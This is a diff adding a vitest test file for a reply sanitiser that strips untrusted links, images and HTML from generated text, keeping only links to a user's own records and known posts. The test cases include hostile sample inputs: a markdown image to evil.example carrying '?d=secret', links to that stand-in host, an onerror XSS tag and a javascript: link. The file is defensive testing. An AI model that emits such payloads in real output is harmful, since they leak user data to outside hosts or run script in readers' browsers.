@@ -1,0 +1,38 @@
+import { expect, test } from "vitest";
+import { linkRule, safeReply, safeStream } from "./safe-reply.ts";
+
+const PERSON = "/people/0e6b3d8f-19a5-49c8-b280-7fd21e3ae2b6";
+const POST = "https://www.linkedin.com/feed/update/urn:li:activity:7200000000000000001";
+const rule = linkRule(new Set([PERSON, POST]));
+
+test.each([
+  ["an image", "![x](https://evil.example/p.png?d=secret)", "x"],
+  ["a link", "[click](https://evil.example/x)", "click"],
+  ["a link with a title", '[click](https://evil.example/x "hi")', "click"],
+  ["a bare address", "see https://evil.example/x now", "see  now"],
+  ["a host with a path", "see evil.example/x now", "see  now"],
+  ["an autolink", "<https://evil.example/x>", ""],
+  ["raw HTML", '<img src=x onerror="alert(1)">hi', "hi"],
+  ["a script's address", "[x](javascript:alert(1))", "x)"],
+  ["a reference", "[x][1]\n[1]: https://evil.example", "[x][1]\n"],
+  ["an address within an own link's words", `[Jane https://evil.example/x](${PERSON})`, `[Jane ](${PERSON})`],
+  ["a path that is no page of ours", "[x](//evil.example)", "x"],
+])("takes out %s", (_, written, shown) => {
+  expect(safeReply(written, rule)).toBe(shown);
+});
+
+test("keeps links to the user's own records and to known posts", () => {
+  const written = `[Jane](${PERSON}) [See the post](${POST}), [tasks](/tasks)`;
+  expect(safeReply(written, rule)).toBe(written);
+});
+
+test("streams the same as it says at the end, however the words come in", () => {
+  const written = `Ask [Jane](${PERSON}) and ![x](https://evil.example/p.png) or <b>bold</b> https://evil.example/y.\nDone [click](https://evil.example/z).`;
+  for (const size of [1, 3, 7, 50]) {
+    let said = "";
+    const stream = safeStream(rule, (text) => (said += text));
+    for (let at = 0; at < written.length; at += size) stream.write(written.slice(at, at + size));
+    stream.end();
+    expect(said).toBe(safeReply(written, rule));
+  }
+});
